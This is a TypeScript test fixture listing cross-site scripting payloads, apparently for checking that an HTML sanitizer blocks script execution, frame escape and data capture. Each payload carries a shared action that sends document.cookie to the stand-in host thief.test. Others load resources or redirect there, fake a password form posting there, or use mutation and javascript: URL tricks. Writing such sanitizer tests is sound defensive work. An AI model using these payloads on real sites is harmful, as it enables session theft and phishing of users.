/** What a script would do if it ran: seen by the dialog, by the mark, and by the request that leaves. */
const act = "top.hacked=1;alert(1);fetch('https://thief.test/?'+document.cookie)";

/** Bodies that try to run something, leave the frame, or ask for what is typed. One a letter: one must not hide another. */
export const hostileBodies: readonly string[] = [
  `<script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<svg onload="${act}"></svg>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<a href="javascript:${act}">read more</a>`,
  `<a href="java&#10;script:${act}">read more</a>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  `<object data="data:text/html,<script>${act}</script>"></object><embed src="data:text/html,<script>${act}</script>">`,
  `<form action="https://thief.test/"><input name=password autofocus onfocus="${act}"><button>Sign in</button></form>`,
  `<details open ontoggle="${act}">x</details>`,
  `<video><source onerror="${act}"></video><audio src=x onerror="${act}"></audio>`,
  `<style>@import 'https://thief.test/a.css'; body { background: url(https://thief.test/b.png) }</style><p>styled</p>`,
  `<link rel=stylesheet href="https://thief.test/c.css"><meta http-equiv=refresh content="0;url=https://thief.test/">`,
  `<base href="https://thief.test/"><img src="d.png"><a href="e">next</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`,
  `<p style="background-image:url('https://thief.test/f.png');behavior:url(#x);position:fixed;inset:0">over everything</p>`,
  `<img srcset="https://thief.test/g.png 1x" src="https://thief.test/h.png"><picture><source srcset="https://thief.test/i.png"></picture>`,
  `<template><img src=x onerror="${act}"></template><portal src="https://thief.test/"></portal>`,
  `<table background="https://thief.test/j.png"><tr><td onmouseover="${act}">cell</td></tr></table>`,
];

/** For each field that a list or a page shows. */
export const hostileText = `"><img src=x onerror="${act}"><svg/onload="${act}">`;
